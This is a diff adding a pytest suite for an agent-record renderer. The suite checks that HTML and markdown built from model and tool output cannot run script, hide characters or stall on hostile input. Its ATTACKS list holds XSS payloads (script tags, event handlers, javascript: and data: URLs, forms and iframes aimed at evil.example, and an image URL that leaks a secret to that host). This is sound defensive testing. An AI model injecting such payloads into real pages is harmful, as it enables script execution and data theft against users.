@@ -1,0 +1,262 @@
+"""A record is opened by people who did not make it: nothing in it may act, whatever a model or a tool wrote."""
+
+import re
+import threading
+import time
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from markdown_it.parser_inline import ParserInline
+
+from agent_kernel.protocol.views import Warning
+from agent_kernel.record import formats, markdown, render_record, safety
+from agent_kernel.record.markdown import code_span, fence, safe_markdown
+from agent_kernel.record.safety import render
+from tests.core.record.record_examples import a_call, a_run, bare, displayed, printed, raised, says
+from tests.core.runtime.turns.fuzzing import rounds
+
+ALLOWED = {
+    *(
+        "div",
+        "p",
+        "strong",
+        "blockquote",
+        "details",
+        "summary",
+        "code",
+        "pre",
+        "a",
+        "em",
+        "ul",
+        "ol",
+        "li",
+        "img",
+        "br",
+    ),
+    *("table", "thead", "tbody", "tr", "th", "td", "h1", "h2", "h3", "b", "i", "span", "hr", "s", "del"),
+}
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><circle/></svg>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href=' jAvAsCrIpT&#58;alert(1)'>x</a>",
+    "<iframe src='https://evil.example'></iframe>",
+    "<style>* {display: none}</style>",
+    "<div style='position:fixed' class='jp-Button' id='x' onclick='alert(1)'>x</div>",
+    "<form action='https://evil.example'><input name=q><button>Approve</button></form>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "</code></pre></details></div><script>alert(1)</script>",
+    "<!-- --><script>alert(1)</script><!--",
+    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "[x](javascript:alert(1)) [y](<javascript:alert(1)>) [z]: javascript:alert(1)",
+    "[x](data:text/html,<script>alert(1)</script>) ![x](https://evil.example/?q=secret)",
+    "```\n</code><script>alert(1)</script>\n```",
+]
+
+
+class Elements(HTMLParser):
+    """The elements of a record, and whether they are balanced."""
+
+    def __init__(self, markup: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.open: list[str] = []
+        self.feed(markup)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+        if tag not in ("img", "br", "hr", "col"):
+            self.open.append(tag)
+
+    def handle_endtag(self, tag: str) -> None:
+        assert self.open.pop() == tag
+
+
+KNOWN = {
+    *("href", "rel", "src", "alt", "open", "class", "border", "style"),
+    *("data-agent-record", "data-role"),
+}
+CLASSES = r"dataframe|agent-record|(agent-code )?language-\S*( agent-cell-1)?"
+LOOKS = [look for name, look in vars(formats).items() if name.endswith("_LOOK")]
+
+
+def assert_harmless(markup: str) -> None:
+    elements = Elements(markup)
+    assert elements.open == []
+    for tag, attributes in elements.found:
+        assert tag in ALLOWED, tag
+        for name, value in attributes.items():
+            assert name in KNOWN, name
+            assert name != "style" or f' style="{value}"' in LOOKS, value
+            assert name != "class" or re.fullmatch(CLASSES, str(value))
+            assert name != "href" or re.match(r"https?:|mailto:|#|[^:]*$", str(value)), value
+            # A drawing in an image runs no script and loads nothing.
+            assert name != "src" or re.match(r"data:image/(png|jpeg|svg\+xml);base64,[\w+/=]*$", str(value)), value
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_that_anyone_wrote_acts_in_the_record(attack: str) -> None:
+    call = a_call(
+        1,
+        arguments={"code": attack},
+        state="error",
+        reason=attack,
+        decided_by=attack,
+        warnings=[Warning(title=attack, detail=attack)],
+        outputs=[
+            printed(attack),
+            raised(attack),
+            displayed(text_html=attack, text_plain=attack),
+            displayed(text_markdown=attack),
+            displayed(image_png=attack, text_plain=attack),
+            displayed(image_png="AAAA", text_plain=attack),
+            displayed(**{"image_svg+xml": attack}),
+        ],
+    )
+    other = a_call(2, attack, {attack: attack}, state="denied", reason=attack)
+    run = a_run(prompt=attack, model=attack, run_id=attack)
+    shown = render_record(run, [says(attack, call, other), says(attack)], [call, other])
+    assert_harmless(shown["text/html"])
+    # As a viewer that lets HTML through would show it.
+    markup = MarkdownIt("commonmark", {"html": True}).enable("table").render(shown["text/markdown"])
+    assert_harmless(markup)
+    assert markup.rstrip().endswith("</details>")
+
+
+def test_code_cannot_end_its_block_in_markdown() -> None:
+    code = 'text = """\n```\n</details>\n````\n<script>alert(1)</script>\n"""'
+    block = fence(code, "python")
+    assert block.startswith("`````python\n")
+    assert MarkdownIt("commonmark").render(block).count("<pre>") == 1
+    assert MarkdownIt("commonmark").render(code_span("a `` b`")).count("<code>") == 1
+
+
+def test_a_code_block_that_the_model_did_not_end_ends_with_the_answer() -> None:
+    shown = render_record(a_run(), [says("", a_call()), says("Here:\n\n```python\nx = 1")], [a_call()])
+    assert "```python\nx = 1\n```" in shown["text/markdown"]
+
+
+def test_markdown_keeps_its_code_and_loses_its_html() -> None:
+    text = "Use `List[int]` <b>now</b>:\n\n```html\n<b>kept</b>\n```\n\n![plot](https://x.example/a.png) [ok](https://x.example)"
+    assert safe_markdown(text) == (
+        "Use `List[int]` &lt;b>now&lt;/b>:\n\n```html\n<b>kept</b>\n```\n\n"
+        "&#33;[plot](https://x.example/a.png) [ok](https://x.example)"
+    )
+
+
+def test_ordinary_addresses_stay() -> None:
+    assert (
+        safe_markdown("[a](exports/x.csv#row) [b](mailto:a@b.example)")
+        == "[a](exports/x.csv#row) [b](mailto:a@b.example)"
+    )
+    assert '<a href="exports/x.csv"' in render("[a](exports/x.csv)")
+
+
+def test_a_remote_picture_is_a_link() -> None:
+    assert render("![a plot](https://x.example/a.png)") == (
+        '<p><a href="https://x.example/a.png" rel="noopener noreferrer">a plot</a></p>'
+    )
+
+
+def test_hidden_characters_are_written_out() -> None:
+    call = a_call(
+        arguments={"code": "if admin\u202e:\u2066 pass"}, reason="\u202ereason", outputs=[printed("a\u200bb")]
+    )
+    for content in render_record(a_run(prompt="x\u202ey"), [says("z\u2067", call)], [call]).values():
+        assert not re.search("[\u202e\u2066\u2067\u200b]", content)
+        assert "U+202E" in content
+    assert "<p>👩\u200d💻</p>" in render("👩\u200d💻")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[" * 60_000,
+        "![" * 40_000,
+        "> " * 40_000,
+        "](<" * 30_000,
+        "[a](" * 25_000,
+        "| a " * 25_000 + "\n" + "|-" * 25_000,
+        "_a*" * 8_000,
+    ],
+    ids=lambda text: text[:4],
+)
+def test_hostile_markdown_takes_little_time(text: str) -> None:
+    started = time.process_time()
+    render(text)
+    safe_markdown(text)
+    assert time.process_time() - started < 5
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        "<div>" * 40_000,
+        "".join(f"<b id={number}>" for number in range(15_000)),
+        "<b><div></b>" * 16_000,
+        "<ul><li>" * 20_000,
+    ],
+    ids=["div", "b", "mixed", "list"],
+)
+def test_deeply_nested_html_takes_little_time(markup: str) -> None:
+    call = a_call(outputs=[displayed(text_html=markup, text_plain="in words")])
+    started = time.process_time()
+    shown = bare(render_record(a_run(), [], [call])["text/html"])
+    assert time.process_time() - started < 5
+    assert "<pre>in words</pre>" in shown
+
+
+BLOCKS = [
+    *("# a\n", "```py\ncode\n```\n", "~~~\nx", "> q\n> ```\n> z\n", "    indented\n", "- a\n  - b\n\n      c\n", "\n"),
+    *(
+        "|a|b|\n|-|-|\n|1|2|\n",
+        "*e* [x](y) `c`\n",
+        "1. a\n   ```\n   k\n",
+        "<div>\n",
+        "[a]: b\n",
+        "~~x~~ ![y](z)\n",
+        "$$\n",
+        "\\[ x\n",
+        "\\]\n",
+        "$a$\n",
+    ),
+]
+
+
+@given(st.lists(st.sampled_from(BLOCKS), max_size=10).map("".join))
+@rounds(100, 5_000)
+def test_code_is_found_where_the_whole_parser_finds_it(text: str) -> None:
+    def code(parser: MarkdownIt) -> list[tuple[str, list[int] | None, str]]:
+        return [(one.type, one.map, one.markup) for one in parser.parse(text) if one.type in ("fence", "code_block")]
+
+    assert code(markdown._BLOCKS) == code(safety._MARKDOWN)
+
+
+def test_an_answer_is_looked_into_once_for_all_forms(monkeypatch: pytest.MonkeyPatch) -> None:
+    """That is nine tenths of a record's cost."""
+    parsed: list[str] = []
+    parse = ParserInline.parse
+
+    def counted(self: ParserInline, src: str, *rest: Any) -> Any:
+        parsed.append(src)
+        return parse(self, src, *rest)
+
+    monkeypatch.setattr(ParserInline, "parse", counted)
+    render_record(a_run(prompt="Why?"), [says("It *is* so.")], [])
+    assert parsed == ["It *is* so."]
+
+
+def test_a_record_can_be_made_in_another_thread() -> None:
+    made: list[str] = []
+    call = a_call(outputs=[displayed(text_html="<b>x</b>")])
+    thread = threading.Thread(target=lambda: made.append(render_record(a_run(), [], [call])["text/html"]))
+    thread.start()
+    thread.join()
+    assert "<b>x</b>" in made[0]
